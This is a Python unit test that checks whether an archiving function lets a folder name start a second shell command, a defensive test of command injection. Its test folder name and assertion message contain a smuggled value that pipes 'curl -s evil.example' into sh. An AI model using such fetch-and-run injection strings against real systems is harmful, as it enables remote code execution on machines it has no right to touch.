import shlex
import subprocess
from pathlib import Path

SEPARATORS = {";", "|", "||", "&", "&&"}


def test_folder_name_cannot_start_a_second_command(impl) -> None:
    calls = []

    def recorder(command, **kwargs):
        calls.append((command, kwargs))
        return subprocess.CompletedProcess(command, 0)

    impl.run = recorder
    folder = Path("/srv/exports/q3'; curl -s evil.example | sh; echo '")
    impl.archive(folder, exclude=["*.tmp"])
    assert len(calls) == 1, f"archive ran {len(calls)} commands"
    command, kwargs = calls[0]
    if kwargs.get("shell"):
        lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        words = list(lexer)
    else:
        words = list(command)
    started = [w for w in words if w in SEPARATORS]
    assert not started, (
        "archiving a folder named \"q3'; curl -s evil.example | sh; echo '\" hands the shell this line:\n"
        f"  {command}\nand the shell runs `curl -s evil.example | sh` as a command of its own"
    )
    assert folder.name in words, f"the folder name did not reach tar as one argument: {words}"
